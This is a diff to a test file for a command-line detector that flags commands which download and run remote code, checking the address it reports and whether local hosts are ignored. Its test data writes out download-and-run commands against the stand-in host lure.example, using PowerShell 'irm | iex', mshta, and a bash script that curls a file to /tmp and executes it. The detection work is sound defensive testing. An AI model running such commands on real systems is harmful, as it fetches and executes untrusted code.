@@ -118,12 +118,12 @@ describe('the reported address', () => {
   });
 
   test.each(['localhost:3000', '127.0.0.1', '192.168.1.20', 'nas.local', '10.0.0.5:8080', '[::1]'])(
-    'a script of this computer or network is not found: %s',
+    'an address of this computer or network does not count: %s',
     (host) => {
-      const line = (address: string) => windowsCommand(`powershell -c "irm http://${address}/a | iex"`);
+      const line = (address: string) => windowsCommand(`mshta http://${address}/a.hta`, undefined, 'mshta.exe');
       expect(matchCommand(line(host))).toBeNull();
-      expect(matchCommand(line('lure.example'))).not.toBeNull();
-      expect(matchCommand({ ...line(host), command_line: `${line(host).command_line}; irm http://lure.example|iex` })).not.toBeNull();
+      expect(matchCommand(line('lure.example'))?.address).toBe('lure.example');
+      expect(matchCommand(windowsCommand(`powershell -c "irm $env:u | iex" # http://${host}`))).toMatchObject({ address: null });
     },
   );
 
@@ -224,6 +224,13 @@ describe('however a command is written', () => {
         expect(matchCommand(seen)).toMatchObject({ pattern: 'fetch-into-a-shell', address: 'lure.example' });
       }),
     );
+  });
+
+  test('a script of several lines, which a shell got as one word, is found', () => {
+    const script = (last: string) => `bash -c #!/bin/bash\ncurl -so /tmp/update https://lure.example/u\nsleep 1\n${last}`;
+    const seen = { os: 'macos' as const, name: 'bash', parents: ['zsh', 'login', 'Terminal'], pipeline: [] };
+    expect(matchCommand({ ...seen, command_line: script('/tmp/update') })?.address).toBe('lure.example');
+    expect(matchCommand({ ...seen, command_line: 'bash -c #!/bin/bash\ncurl -so /tmp/a.json https://lure.example/u\nls' })).toBeNull();
   });
 
   test('no text makes the matcher throw', () => {
